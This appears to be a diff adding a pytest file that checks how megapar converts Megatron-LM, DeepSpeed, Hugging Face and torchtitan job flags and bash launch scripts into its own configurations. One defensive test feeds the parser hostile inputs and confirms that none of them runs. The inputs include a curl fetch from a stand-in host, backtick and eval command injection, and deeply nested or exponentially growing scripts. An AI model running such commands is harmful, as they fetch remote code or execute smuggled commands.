@@ -1,0 +1,696 @@
+"""Jobs of other frameworks become configurations of megapar, and nothing of them is lost on the way."""
+
+import json
+import pickle
+import sys
+import tomllib
+from argparse import Namespace
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+import torch
+from megapar_models.llama.model import LlamaModel
+from megapar_models.registry import FOR_OPTIONS, named_configs, validate
+
+from megapar.config.options import flatten
+from megapar.config.other_frameworks import carry, sources
+from megapar.config.other_frameworks.account import Account, account_of, report
+from megapar.config.other_frameworks.carry import Option, move
+from megapar.config.other_frameworks.job import plain
+from megapar.config.other_frameworks.shell import Launch, launch_of, read_launch
+from megapar.config.other_frameworks.table import TABLE
+from megapar.errors import CheckpointError, ConfigError
+from tests.support.megatron_folders import args_of
+from tests.support.options import load
+from tools import coming_over, from_deepspeed, from_megatron, from_torchtitan
+
+JOBS = {job["name"]: job for job in coming_over.jobs()}
+JOB_IDS = {"argvalues": JOBS.values(), "ids": list(JOBS)}
+CONFIGS = Path(__file__).parents[1] / "pretrain_scripts/configs"
+
+# A llama of which every flag has a counterpart.
+LLAMA = """--num-layers 2 --hidden-size 64 --ffn-hidden-size 160 --num-attention-heads 4 --seq-length 64 --lr 1e-3
+--max-position-embeddings 64 --swiglu --normalization RMSNorm --disable-bias-linear --position-embedding-type rope
+--attention-dropout 0 --hidden-dropout 0 --micro-batch-size 2 --global-batch-size 8 --train-iters 10"""
+
+
+def moved(framework: str, flags: str, world: int = 0, samples: int = 0) -> Account:
+    """The account of a command line."""
+    options = sources.options_of_words(flags.split(), (framework,))
+    found = move(options, FOR_OPTIONS, world=world, samples=samples, dashes=lambda _: "--")
+    return account_of(found, FOR_OPTIONS, named_configs(CONFIGS), validate, world)
+
+
+def left(account: Account) -> dict[str, str]:
+    """Why each option was left, by name, without those that are defaults."""
+    return {line.theirs.lstrip("-"): line.here for line in account.moved.left if not line.is_default}
+
+
+def script(text: str, **variables: str) -> Launch:
+    return launch_of(text, "job.sh", variables)
+
+
+# Public jobs
+
+
+@pytest.mark.parametrize("job", **JOB_IDS)
+def test_every_option_of_a_public_job_is_accounted_for_and_the_result_can_run(job, tmp_path):
+    account = coming_over.account(job)
+    lines = account.moved.carried + [line for line in account.moved.left if not line.is_default]
+    assert len(lines) == account.moved.options > 30
+    assert account.refusal == ""
+    assert account.percent >= 80
+    file = tmp_path / "job.toml"
+    file.write_text(account.toml)
+    resolved = load(["--config", str(file)], named_configs(CONFIGS))
+    assert flatten(resolved.config) == flatten(account.config)
+    validate(resolved.config, job["world_size"])
+    text = report(account).replace(":", " ")
+    assert all(f"\n  {line.theirs.replace(':', ' ')} " in text for line in lines)
+
+
+def test_the_page_has_the_figures_of_the_public_jobs():
+    assert coming_over.PAGE.read_text() == coming_over.page(), "run python tools/coming_over.py"
+    assert len(JOBS) == 10
+
+
+GPT_3 = {
+    "model.family": "gpt",
+    "model.hidden_size": 12288,
+    "model.num_hidden_layers": 96,
+    "model.tie_word_embeddings": True,
+    "model.hidden_dropout": 0.1,
+    "parallel.tp": 8,
+    "parallel.pp": 16,
+    "train.global_batch_size": 1536,
+    "train.steps": 500_000,
+    "train.precision": "fp16",
+    "optimizer.lr": 6e-5,
+    "optimizer.min_lr": 6e-6,
+    "optimizer.schedule": "cosine",
+    "optimizer.warmup_steps": 430,
+    "optimizer.decay_steps": 429_570,
+    "optimizer.betas": (0.9, 0.95),
+    "data.split": (949.0, 50.0, 1.0),
+}
+BLOOM = {
+    "model.family": "gpt",
+    "train.batch_ramp": (192, 16, 9_765_625),
+    # Megatron-DeepSpeed's own rule, walked through by hand: a ramp of 116 increments, then whole batches.
+    "train.steps": 115_311,
+    "optimizer.eps": 1e-8,
+    "train.recompute": "full",
+    "train.seed": 42,
+}
+ALPACA = {
+    "train.global_batch_size": 128,  # 4 x 8 x 4 ranks
+    "train.steps": 3 * 407,  # ceil(ceil(52002 / 16) / 8)
+    "optimizer.warmup_steps": 37,
+    "optimizer.zero_stage": 3,
+    "optimizer.offload": 1.0,
+    "optimizer.schedule": "linear",
+    "optimizer.betas": (0.9, 0.999),
+    "train.seed": 42,
+    "model.hidden_size": 4096,
+}
+DEEPSEEK = {
+    "model.family": "deepseek",
+    "train.global_batch_size": 4 * 512,
+    "optimizer.schedule": "cosine",  # 2,000 steps of warm-up and a decay over 0.8 x 10,000 leave no stable phase
+    "optimizer.decay_steps": 0,
+    "optimizer.min_lr": 2.2e-5,
+    "optimizer.zero_stage": 3,
+    "checkpoint.save_last": False,
+    "train.precision": "bf16",
+}
+EXPECTED = {"GPT-3 175B": GPT_3, "BLOOM 176B": BLOOM, "Alpaca 7B": ALPACA, "DeepSeek-V3 671B": DEEPSEEK}
+
+
+@pytest.mark.parametrize("name", EXPECTED)
+def test_values_of_public_jobs_are_those_read_by_hand(name):
+    values = flatten(coming_over.account(JOBS[name]).config)
+    assert {option: values[option] for option in EXPECTED[name]} == EXPECTED[name]
+
+
+@pytest.mark.parametrize(
+    ("flag", "change"),
+    [("lr", {"option": "optimizer.min_lr"}), ("train-iters", {"default": "7", "option": "log.every"})],
+)
+def test_a_planted_wrong_row_is_seen(monkeypatch, flag, change):
+    wrong = [replace(row, **change) if row.name == flag else row for row in TABLE["Megatron-LM"]]
+    monkeypatch.setitem(carry.TABLE, "Megatron-LM", tuple(wrong))
+    values = flatten(coming_over.account(JOBS["GPT-3 175B"]).config)
+    assert {option: values[option] for option in GPT_3} != GPT_3
+
+
+# The account
+
+
+def test_a_job_without_counterparts_missing_is_whole_and_unknown_flags_are_listed():
+    whole = moved("Megatron-LM", f"{LLAMA} --untie-embeddings-and-output-weights", 2)
+    assert whole.is_whole, report(whole)
+    account = moved("Megatron-LM", f"{LLAMA} --quux 3 --moe-token-drop-policy probs --lr-decay-style exponential", 2)
+    assert not account.is_whole
+    assert left(account) == {
+        "quux": "megapar's table does not know it",
+        "moe-token-drop-policy": "no token is dropped here, because an expert computes every token that chose it",
+        "lr-decay-style": "cosine and linear and constant and inverse-square-root and WSD have a counterpart",
+    }
+    assert "[train]\nsteps = 10  # --train-iters 10" in account.toml
+
+
+def test_defaults_that_decide_what_is_computed_are_written_down_and_others_are_named():
+    account = moved("Megatron-LM", LLAMA, 2)
+    lines = {line.theirs: line.here for line in account.moved.defaults}
+    assert account.config.optimizer.weight_decay == 0.01
+    assert account.config.optimizer.betas == (0.9, 0.999)
+    assert account.config.optimizer.schedule == "linear"
+    assert account.config.model.tie_word_embeddings
+    assert "written down" in lines["--weight-decay"]
+    assert lines["--log-interval"] == "log.every stays 1, the default here (theirs: 100)"
+    assert account.config.log.every == 1
+    # With dropout, which is Megatron-LM's default, llama has no counterpart.
+    text = LLAMA.replace("--attention-dropout 0 ", "")
+    defaults = [line.theirs for line in moved("Megatron-LM", text, 2).moved.left if line.is_default]
+    assert defaults == ["--attention-dropout"]
+
+
+def test_two_options_that_contradict_each_other_are_told():
+    account = moved("Megatron-LM", f"{LLAMA} --bf16 --fp16", 2)
+    assert left(account)["fp16"] == "train.precision is bf16 by --bf16 already"
+
+
+def test_the_arithmetic_of_ranks_is_shown_and_a_layout_that_does_not_fit_is_told():
+    account = moved("Megatron-LM", f"{LLAMA} --tensor-model-parallel-size 2 --global-batch-size 24", 6)
+    ranks, batch, run = account.arithmetic
+    assert ranks == "6 ranks = tp 2 x cp 1 x pp 1 x dp 3"
+    assert batch == "global batch 24 = micro-batch 2 x dp 3 x 4 micro-batches of a replica (gradient accumulation)"
+    assert run.startswith("1,536 tokens a step x 10 steps")
+    account = moved("Megatron-LM", f"{LLAMA} --tensor-model-parallel-size 4", 6)
+    assert account.arithmetic[0] == "6 ranks are no multiple of tp 4 x cp 1 x pp 1"
+    assert "does not divide world size 6" in account.refusal
+    assert "give --world_size" in moved("Megatron-LM", LLAMA).arithmetic[0]
+
+
+# Conversions: options of ours for flags of a job, beside others that they depend on.
+
+LAYERS = "--num-layers 12 --hidden-size 64 --num-attention-heads 4"
+MIX = "--num-experts 8 --swiglu"
+CONVERSIONS = [
+    ("Megatron-LM", f"--num-layers-per-virtual-pipeline-stage 2 {LAYERS} --pipeline-model-parallel-size 2", 2,
+     {"parallel.vpp": "3", "parallel.schedule": "interleaved"}),
+    ("Megatron-LM", f"--num-layers-per-virtual-pipeline-stage 5 {LAYERS} --pipeline-model-parallel-size 2", 2, None),
+    ("Megatron-LM", "--num-virtual-stages-per-pipeline-rank 2 --pipeline-model-parallel-size 4", 4,
+     {"parallel.vpp": "2", "parallel.schedule": "interleaved"}),
+    ("Megatron-LM", "--num-virtual-stages-per-pipeline-rank 1", 4, {}),
+    ("Megatron-LM", f"--decoder-first-pipeline-num-layers 2 {LAYERS} --pipeline-model-parallel-size 3", 3,
+     {"parallel.partition": "2 5 5"}),
+    ("Megatron-LM", f"--decoder-last-pipeline-num-layers 3 {LAYERS} --pipeline-model-parallel-size 3", 3, None),
+    ("Megatron-LM", "--tp-comm-overlap --tensor-model-parallel-size 2", 2, {"parallel.tp_overlap_chunks": "2"}),
+    ("Megatron-LM", "--tp-comm-overlap", 2, {}),
+    ("Megatron-LM", "--use-distributed-optimizer", 2, {"optimizer.zero_stage": "1"}),
+    ("Megatron-LM", "--use-megatron-fsdp", 2, {"optimizer.zero_stage": "3"}),
+    ("Megatron-LM", "--use-megatron-fsdp --data-parallel-sharding-strategy optim", 2, {}),
+    ("Megatron-LM", "--num-distributed-optimizer-instances 2", 8, {"optimizer.shard_ranks": "4"}),
+    ("Megatron-LM", "--num-distributed-optimizer-instances 2", 0, None),
+    ("Megatron-LM", "--ddp-bucket-size 40000000", 8, {"optimizer.bucket_mb": "152.587890625"}),
+    ("Megatron-LM", "--global-batch-size 16", 8, {"train.global_batch_size": "16"}),
+    ("Megatron-LM", "--train-samples 1000 --global-batch-size 16", 8, {"train.steps": "62"}),
+    # Steps of 4, 4, 8 and 12 samples are beyond the ramp's 24. Of the other 972 there are 60 whole steps.
+    ("Megatron-LM", "--train-samples 1000 --global-batch-size 16 --rampup-batch-size 4 4 24", 8, {"train.steps": "64"}),
+    ("Megatron-LM", "--ffn-hidden-size 160", 8, {"model.intermediate_size": "160"}),
+    ("Megatron-LM", "--num-query-groups 2 --group-query-attention", 8, {"model.num_key_value_heads": "2"}),
+    ("Megatron-LM", "--num-query-groups 1", 8, {}),
+    ("Megatron-LM", "--position-embedding-type rope --swiglu", 8, {"model.family": "llama"}),
+    ("Megatron-LM", "--position-embedding-type alibi", 8, None),
+    ("Megatron-LM", "--use-rotary-position-embeddings --swiglu", 8, {"model.family": "llama"}),
+    ("Megatron-LM", f"--normalization RMSNorm {MIX}", 8, {"model.family": "mixtral"}),
+    ("Megatron-LM", f"--normalization RMSNorm {MIX} --qk-layernorm", 8, {"model.family": "qwen3_moe"}),
+    ("Megatron-LM", "--normalization RMSNorm", 8, None),
+    ("Megatron-LM", "--swiglu", 8, {"model.family": "llama"}),
+    ("Megatron-LM", "--multi-latent-attention", 8, {"model.family": "deepseek"}),
+    ("Megatron-LM", "--disable-bias-linear --swiglu", 8, {"model.family": "llama"}),
+    ("Megatron-LM", "--disable-bias-linear", 8, None),
+    ("Megatron-LM", "--attention-dropout 0.2", 8, {"model.attention_dropout": "0.2"}),
+    ("Megatron-LM", "--attention-dropout 0.2 --swiglu", 8, None),
+    ("Megatron-LM", "--hidden-dropout 0 --swiglu", 8, {}),
+    ("Megatron-LM", "--dropout 0.1", 8, {"model.hidden_dropout": "0.1"}),
+    ("Megatron-LM", f"--moe-router-load-balancing-type aux_loss {MIX}", 8, {"model.moe.balance": "none"}),
+    ("Megatron-LM", f"--moe-router-load-balancing-type aux_loss --moe-aux-loss-coeff 0.01 {MIX}", 8, None),
+    ("Megatron-LM", f"--moe-router-load-balancing-type seq_aux_loss {MIX}", 8, {"model.moe.balance": "sequence"}),
+    ("Megatron-LM", "--moe-layer-freq ([0]*3+[1]*58) --multi-latent-attention", 8,
+     {"model.moe.first_k_dense_replace": "3"}),
+    ("Megatron-LM", f"--moe-layer-freq 2 {MIX}", 8, None),
+    ("Megatron-LM", "--overlap-moe-expert-parallel-comm --expert-model-parallel-size 2", 8,
+     {"parallel.ep_overlap_chunks": "2"}),
+    ("Megatron-LM", "--lr-warmup-fraction .1 --lr-decay-iters 50 --train-iters 100", 8,
+     {"optimizer.warmup_steps": "5"}),
+    ("Megatron-LM", "--lr-warmup-samples 160 --global-batch-size 16", 8, {"optimizer.warmup_steps": "10"}),
+    ("Megatron-LM", "--lr-decay-iters 50 --train-iters 100 --lr-warmup-iters 10", 8, {"optimizer.decay_steps": "40"}),
+    ("Megatron-LM", "--lr-decay-iters 100 --train-iters 100 --lr-warmup-iters 10", 8, {}),
+    ("Megatron-LM", "--lr-decay-samples 800 --global-batch-size 16 --train-iters 100", 8,
+     {"optimizer.decay_steps": "50"}),
+    ("Megatron-LM", "--lr-decay-iters 50 --train-iters 100 --lr-decay-style WSD", 8, None),
+    ("Megatron-LM", "--lr-wsd-decay-samples 320 --global-batch-size 16 --train-samples 1600", 8,
+     {"optimizer.decay_steps": "20"}),
+    ("Megatron-LM", "--adam-beta2 0.95", 8, {"optimizer.betas": "0.9 0.95"}),
+    ("Megatron-LM", "--recompute-granularity full", 8, {"train.recompute": "full"}),
+    ("Megatron-LM", "--recompute-granularity selective --recompute-modules layernorm", 8,
+     {"train.recompute": "light"}),
+    ("Megatron-LM", "--recompute-modules core_attn", 8, {"train.recompute": "selective"}),
+    ("Megatron-LM", "--recompute-modules mlp", 8, None),
+    ("Megatron-LM", "--data-path 0.3 a 0.7 b", 8, {"data.train": "0.3:a 0.7:b"}),
+    ("Megatron-LM", "--data-path a", 8, {"data.train": "a"}),
+    ("Megatron-LM", "--data-path a b c", 8, None),
+    ("Megatron-LM", "--train-data-path a", 8, {"data.train": "a"}),
+    ("Megatron-LM", "--valid-data-path a", 8, {"data.validation": "a"}),
+    ("Megatron-LM", "--test-data-path a", 8, {"data.validation": "test=a"}),
+    ("Megatron-LM", "--split '99,1,0' --data-path a", 8, {"data.split": "99 1 0"}),
+    ("Megatron-LM", "--split 99,1,0 --data-path 1 a 2 b", 8, None),
+    ("Megatron-LM", "--num-workers 4", 8, {}),
+    ("Megatron-LM", "--tokenizer-type HuggingFaceTokenizer --tokenizer-model llama/", 8,
+     {"data.tokenizer": "hf:llama/tokenizer.json"}),
+    ("Megatron-LM", "--tokenizer-model t.model --tokenizer-type Llama2Tokenizer", 8,
+     {"data.tokenizer": "spm:t.model"}),
+    ("Megatron-LM", "--tokenizer-type GPT2BPETokenizer", 8, None),
+    ("Megatron-LM", "--save a", 8, {"run_dir": "a"}),
+    ("Megatron-LM", "--load a --save a", 8, {}),
+    ("Megatron-LM", "--load b --save a", 8, None),
+    ("Megatron-LM", "--eval-iters 2 --global-batch-size 8 --data-path a", 8, {"train.eval_samples": "16"}),
+    ("Megatron-LM", "--eval-interval 5 --data-path a", 8, {"train.eval_every": "5"}),
+    ("Megatron-LM", "--eval-interval 5 --mock-data", 8, {}),
+    ("Megatron-LM", "--profile-step-start 4 --profile-step-end 6 --profile", 8, {"log.profile": "5-6"}),
+    ("Megatron-LM", "--distributed-timeout-minutes 2", 8, {"launch.timeout_seconds": "120"}),
+    ("DeepSpeed", "--train_micro_batch_size_per_gpu 4", 8, {"train.micro_batch_size": "4"}),
+    ("DeepSpeed", "--gradient_accumulation_steps 2 --train_micro_batch_size_per_gpu 4", 8,
+     {"train.global_batch_size": "64"}),
+    ("DeepSpeed", "--gradient_accumulation_steps 2 --train_batch_size 64", 8, {"train.global_batch_size": "64"}),
+    ("DeepSpeed", "--scheduler.params.total_num_steps 50 --scheduler.params.warmup_num_steps 10", 8,
+     {"optimizer.decay_steps": "40"}),
+    ("DeepSpeed", "--scheduler.params.cos_min_ratio 0.1 --optimizer.params.lr 0.01", 8, {"optimizer.min_lr": "0.001"}),
+    ("DeepSpeed", "--zero_optimization.reduce_bucket_size 2e8 --zero_optimization.stage 1", 8,
+     {"optimizer.bucket_mb": "762.939453125"}),
+    ("DeepSpeed", "--zero_optimization.reduce_bucket_size 2e8 --zero_optimization.stage 2", 8, {}),
+    ("DeepSpeed", '--zero_optimization.offload_optimizer {"device":"cpu","ratio":0.5}', 8,
+     {"optimizer.offload": "0.5"}),
+    ("DeepSpeed", '--zero_optimization.offload_optimizer {"device":"nvme"}', 8, None),
+    ("DeepSpeed", '--zero_optimization.offload_param {"device":"cpu"}', 8, None),
+    ("DeepSpeed", '--zero_optimization.offload_param {"device":"none"}', 8, {}),
+    ("DeepSpeed", "--fp16.hysteresis 2", 8, {}),
+    ("DeepSpeed", "--fp16.hysteresis 2 --fp16.enabled true", 8, None),
+    ("DeepSpeed", "--steps_per_print 5", 8, {"log.every": "5"}),
+    ("DeepSpeed", "--wall_clock_breakdown true", 8, None),
+    ("DeepSpeed", "--memory_breakdown true", 8, {"train.memory_report": "true"}),
+    ("Hugging Face", "--gradient_accumulation_steps 2 --per_device_train_batch_size 4", 8,
+     {"train.global_batch_size": "64"}),
+    ("Hugging Face", "--max_steps 5", 8, {"train.steps": "5"}),
+    ("Hugging Face", "--max_steps -1", 8, {}),
+    ("Hugging Face", "--num_train_epochs 2 --per_device_train_batch_size 1", 8, {"train.steps": "126"}),
+    ("Hugging Face", "--warmup_steps 0.1 --max_steps 50", 8, {"optimizer.warmup_steps": "5"}),
+    ("Hugging Face", "--warmup_ratio 0.1 --max_steps 55", 8, {"optimizer.warmup_steps": "6"}),
+    ("Hugging Face", '--lr_scheduler_kwargs {"min_lr_rate":0.1} --learning_rate 1e-4', 8,
+     {"optimizer.min_lr": "1e-05"}),
+    ("Hugging Face", '--lr_scheduler_kwargs {"num_cycles":2}', 8, None),
+    ("Hugging Face", '--gradient_checkpointing_kwargs {"use_reentrant":false}', 8, {}),
+    ("Hugging Face", "--adam_beta2 0.95", 8, {"optimizer.betas": "0.9 0.95"}),
+    ("Hugging Face", "--save_strategy no", 8, {"checkpoint.every": "0"}),
+    ("Hugging Face", "--save_strategy epoch", 8, None),
+    ("Hugging Face", "--save_steps 0.1 --max_steps 50", 8, {"checkpoint.every": "5"}),
+    ("Hugging Face", "--eval_strategy no", 8, {}),
+    ("Hugging Face", "--fsdp full_shard auto_wrap", 8, {"optimizer.zero_stage": "3"}),
+    ("Hugging Face", "--fsdp hybrid_shard", 8, None),
+    ("Hugging Face", "--ddp_bucket_cap_mb 25", 8, {"optimizer.bucket_mb": "25"}),
+    ("Hugging Face", "--resume_from_checkpoint out/checkpoint-5", 8, None),
+    ("Hugging Face", "--data_path a.json", 8, None),
+    ("torchtitan", "--training.local_batch_size 2", 8,
+     {"train.micro_batch_size": "2", "train.global_batch_size": "16"}),
+    ("torchtitan", "--training.local_batch_size 8 --parallelism.pipeline_parallel_degree 2", 8,
+     {"train.micro_batch_size": "1", "train.global_batch_size": "32"}),
+    ("torchtitan", "--training.global_batch_size 64", 8, {"train.global_batch_size": "64"}),
+    ("torchtitan", "--training.enable_cpu_offload true", 8, {"optimizer.offload": "1"}),
+    ("torchtitan", "--parallelism.tensor_parallel_degree 2", 8,
+     {"parallel.tp": "2", "parallel.sequence_parallel": "true"}),
+    ("torchtitan", "--parallelism.data_parallel_shard_degree 2 --parallelism.data_parallel_replicate_degree 4", 8,
+     {"optimizer.zero_stage": "3", "optimizer.shard_ranks": "2"}),
+    ("torchtitan", "--parallelism.data_parallel_replicate_degree 4", 8, {"optimizer.shard_ranks": "2"}),
+    ("torchtitan", "--parallelism.fsdp_reshard_after_forward never", 8, {}),
+    ("torchtitan", "--parallelism.pipeline_parallel_schedule ZBVZeroBubble --parallelism.pipeline_parallel_degree 2", 8,
+     {"parallel.schedule": "zb-v"}),
+    ("torchtitan", "--parallelism.pipeline_parallel_schedule Interleaved1F1B", 8, {}),
+    ("torchtitan", "--lr_scheduler.decay_type linear --lr_scheduler.decay_ratio 0.1 --training.steps 1000", 8,
+     {"optimizer.schedule": "wsd", "optimizer.decay_steps": "100"}),
+    ("torchtitan", "--lr_scheduler.decay_type sqrt", 8, None),
+    ("torchtitan", "--lr_scheduler.decay_ratio 0.1 --lr_scheduler.decay_type cosine --training.steps 1000", 8, None),
+    ("torchtitan", "--metrics.enable_wandb true", 8, {"log.wandb": "torchtitan"}),
+    ("torchtitan", "--metrics.enable_wandb false", 8, {}),
+    ("Hugging Face", "--report_to wandb tensorboard", 8, {"log.wandb": "huggingface", "log.tensorboard": "true"}),
+    ("Hugging Face", "--report_to none", 8, {"log.tensorboard": "false"}),
+    ("Hugging Face", "--report_to clearml", 8, None),
+    ("DeepSpeed", "--wandb.project x --wandb.enabled true", 8, {"log.wandb": "x"}),
+    ("DeepSpeed", "--wandb.project x", 8, {}),
+    ("torchtitan", "--lr_scheduler.min_lr_factor 0.1 --optimizer.lr 1e-3", 8, {"optimizer.min_lr": "0.0001"}),
+    ("torchtitan", "--optimizer.beta2 0.99", 8, {"optimizer.betas": "0.9 0.99"}),
+    ("torchtitan", "--checkpoint.enable false", 8, {"checkpoint.save_last": "false"}),
+    ("torchtitan", "--checkpoint.interval 50 --checkpoint.enable true", 8, {"checkpoint.every": "50"}),
+    ("torchtitan", "--checkpoint.last_save_model_only true", 8, {}),
+    ("torchtitan", "--checkpoint.last_save_model_only true --checkpoint.enable true", 8, None),
+    ("torchtitan", "--activation_checkpoint.mode selective --activation_checkpoint.selective_ac_option 2", 8,
+     {"train.recompute": "full", "train.recompute_every": "2"}),
+    ("torchtitan", "--activation_checkpoint.mode memory_budget", 8, None),
+    ("torchtitan", "--float8.recipe_name rowwise", 8, {}),
+    ("torchtitan", "--float8.recipe_name rowwise --model.converters float8", 8, None),
+    ("torchtitan", "--profiling.profile_freq 10", 8, {}),
+    ("torchtitan", "--validation.steps 10", 8, {}),
+    ("torchtitan", "--validation.steps 10 --validation.enable true", 8, None),
+    ("torchtitan", "--model.tokenizer_path a/tokenizer.model", 8, {"data.tokenizer": "tiktoken:a/tokenizer.model"}),
+    ("torchtitan", "--model.flavor 8B --model.name llama3", 8, {"base": "llama3-8b"}),
+    ("torchtitan", "--model.flavor debugmodel --model.name llama3", 8, None),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("framework", "flags", "world", "expected"), CONVERSIONS, ids=lambda value: str(value)[:60])
+def test_a_value_becomes_ours_as_its_row_says(framework, flags, world, expected):
+    """The first flag's line; None means that it has no counterpart."""
+    options = sources.options_of_words(flags.split(), (framework,))
+    found = move(options, FOR_OPTIONS, world=world, samples=500)
+    name = options[0].name
+    reasons = {line.theirs: line.here for line in found.left if not line.is_default}
+    if expected is None:
+        assert name in reasons
+        return
+    assert name not in reasons, reasons
+    own = f"{name} {' '.join(options[0].words)}".rstrip()
+    # A later flag of a pair, such as both betas, sets the same values again.
+    assert {path: " ".join(found.ours[path]) for path in expected} == expected
+    if not expected:
+        assert own not in found.sources.values()
+
+
+def test_every_conversion_of_the_table_has_such_a_case():
+    tried = {(framework, plain(flags.split()[0][2:])) for framework, flags, _, _ in CONVERSIONS}
+    rows = {framework: {plain(row.name): row for row in rows} for framework, rows in TABLE.items()}
+    tested = set()
+    for framework, name in tried:
+        while name not in rows[framework]:
+            name = name.rpartition(".")[0]
+        tested.add(getattr(rows[framework][name].convert, "__qualname__", ""))
+    used = {row.convert.__qualname__ for table in TABLE.values() for row in table if row.convert is not None}
+    assert not used - tested
+
+
+def test_every_default_of_the_table_is_a_value_of_an_option_here():
+    for framework, rows in TABLE.items():
+        given = [row for row in rows if row.default and row.relation == "same" and row.convert is None]
+        for row in given:
+            assert carry.typed(tuple(row.default.split()), FOR_OPTIONS.types()[row.option]) is not None, row.name
+        fields = {row.name for row in TABLE["Hugging Face"]}
+        assert not {row.auto for row in rows if row.auto} - fields, framework
+
+
+# Launch scripts
+
+SCRIPT = r"""#!/bin/bash
+export A=1 # a comment
+TP=${TP:-4}; NODES=${SLURM_NNODES:-2}
+WORLD=$((8 * NODES / (1 + 1)))
+DATA=$5
+ARGS=(
+    --num-layers 8   # comments stand in arrays
+    "--normalization RMSNorm"
+    --lr 6.0e-5
+)
+if [[ "$MODE" == "fp8" ]] || [ -z "$TP" ]; then
+    ARGS+=(--fp8-format hybrid)
+elif [ "$TP" -ge 4 ]; then
+    ARGS+=(--bf16)
+else
+    ARGS+=(--fp16)
+fi
+[ -f data.idx ] && ARGS+=(--mock-data)
+case $TP in
+    2|3) SIZE=64 ;;
+    *) SIZE=128 ;;
+esac
+OPTS=" \
+    --train-iters $WORLD \
+    --hidden-size $SIZE \
+    "
+cat <<EOT > ds.json
+{ "train_batch_size": $((1 + 1)), 'unclosed
+EOT
+echo python pretrain_gpt.py $OPTS --one --two --three --four --five --six --seven --eight --nine --ten --eleven
+srun bash -c "torchrun --nproc_per_node 8 --nnodes $NODES --node_rank \$SLURM_PROCID pretrain_gpt.py ${ARGS[*]} $OPTS \
+    --tensor-model-parallel-size=$TP --data-path $DATA --split '99,1,0'" 2>&1 | tee $(hostname).log
+"""
+
+
+def test_a_script_is_read_as_bash_would_run_it():
+    launch = script(SCRIPT)
+    options = {o.name: o for o in sources.options_of_words(launch.words, ("Megatron-LM",), launch)}
+    assert launch.program == "pretrain_gpt.py"
+    assert sources.world_of(launch.launcher) == 16
+    assert {name: option.words for name, option in options.items() if not option.unresolved} == {
+        "num-layers": ("8",),
+        "normalization": ("RMSNorm",),
+        "lr": ("6.0e-5",),
+        "bf16": (),
+        "train-iters": ("8",),
+        "hidden-size": ("128",),
+        "tensor-model-parallel-size": ("4",),
+        "split": ("99,1,0",),
+    }
+    assert {name: option.unresolved for name, option in options.items() if option.unresolved} == {
+        "mock-data": "ARGS is set under a condition that only a run decides, line 18",
+        "data-path": "argument 5 of the script, line 5",
+    }
+    known = script(SCRIPT, **{"5": "text", "TP": "2", "MODE": "fp8"})
+    words = " ".join(known.words)
+    assert "--fp8-format hybrid" in words
+    assert "--hidden-size 64" in words
+    assert "--data-path text" in words
+
+
+def test_what_cannot_be_resolved_is_listed_unless_its_value_does_not_matter(tmp_path):
+    file = tmp_path / "train.sh"
+    file.write_text(f"torchrun pretrain_gpt.py {' '.join(LLAMA.split())} --seed $(date +%s) --wandb-entity $USER_NAME "
+                    "--tensorboard-dir $OUT/tb\n")  # fmt: skip
+    account, notes = from_megatron.account(from_megatron.Arguments(file), [])
+    assert left(account) == {
+        "seed": "cannot be resolved: $(date +%s), line 1",
+        "wandb-entity": "Weights & Biases reads WANDB_ENTITY",
+    }
+    assert "line 1 starts pretrain_gpt.py" in notes
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("$(curl http://x/train.sh)", "holds no command with a program"),
+        ("touch ran; `touch ran`; eval \"$(touch ran)\"", "holds no command with a program"),
+        ("torchrun train.py $(cat flags)", "cannot be read: $(cat flags), line 1"),
+        ("A=x\n" + "A=$A$A\n" * 64 + "python t.py --a $A", "grows beyond"),
+        ("A=(x)\n" + 'A+=("${A[@]}")\n' * 64 + "python t.py --a ${A[@]}", "grows beyond"),
+        ("A='x\npython t.py --a 1", ":1: a quote that begins here is not closed"),
+        ("A=( --a 1", ":1: an array that begins here is not closed"),
+        ("python ${A{ t.py --a 1", ":1: { is not closed"),
+        ("bash -c " * 3 + "x", "holds no command"),
+        ("eval eval eval eval eval eval python t.py --a 1", "too deeply"),
+        ("\0", "is no text"),
+        ("elif true", "elif without if"),
+        ("", "holds no command"),
+        ("if " * 50_000, "blocks lie in blocks too deeply"),
+        ("! " * 200_000 + "A=1 " * 100_000, "holds no command"),
+        ("( " * 100_000 + "$((" * 1000, "( is not closed"),
+    ],
+    ids=lambda value: str(value)[:30],
+)  # fmt: skip
+def test_a_hostile_script_is_refused_in_one_line_and_nothing_of_it_runs(text, said, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    file = tmp_path / "job.sh"
+    file.write_text(text)
+    with pytest.raises(ConfigError) as caught:
+        read_launch(file)
+    assert said in str(caught.value)
+    assert str(caught.value).startswith(str(file))
+    assert "\n" not in str(caught.value)
+    assert [path.name for path in tmp_path.iterdir()] == ["job.sh"]
+
+
+def test_sums_that_bash_would_not_finish_are_not_computed():
+    for text in ("9**9**9", "1/0", "1 + (" * 30, "a[b[c]]", "9" * 30):
+        launch = script(f"python t.py --a $(({text}))") if text.count("(") == text.count(")") else None
+        assert launch is None or launch.unresolved(launch.words[1])
+    assert script("N=7; python t.py --a $((-N * 2 / 3 % 3 + ${N}))").words == ("--a", "6")
+
+
+def test_a_file_that_is_no_script_is_refused_in_one_line(tmp_path):
+    (tmp_path / "huge.sh").write_bytes(b"#" * (1 << 20) + b"\n\n")
+    (tmp_path / "binary.sh").write_bytes(b"\xff\xfe\x00python t.py --a 1")
+    for name, said in (
+        ("huge.sh", "at most"),
+        ("binary.sh", "no text"),
+        ("none.sh", "no such file"),
+        (".", "director"),
+    ):
+        with pytest.raises(ConfigError, match=said) as caught:
+            read_launch(tmp_path / name)
+        assert "\n" not in str(caught.value)
+
+
+# Saved arguments
+
+
+def test_arguments_of_a_checkpoint_are_read_without_running_it(tmp_path):
+    model = LlamaModel(hidden_size=32, num_hidden_layers=4, num_attention_heads=4, num_key_value_heads=2, vocab_size=64)
+    args = args_of(replace(model, head_dim=8, intermediate_size=48), 1, 1)
+    # Objects of Megatron-LM's classes can be stored only where they are defined.
+    values = {name: value for name, value in vars(args).items() if type(value).__module__ == "builtins"}
+    args = Namespace(**values, lr=1e-4, train_iters=50, micro_batch_size=1, world_size=4)
+    folder = tmp_path / "iter_0000012"
+    (folder / "mp_rank_00").mkdir(parents=True)
+    torch.save({"args": args, "checkpoint_version": 3.0}, folder / "mp_rank_00/model_optim_rng.pt")
+    account, notes = from_megatron.account(from_megatron.Arguments(folder), [])
+    assert account.config.optimizer.lr == 1e-4
+    assert account.config.model.num_key_value_heads == 2
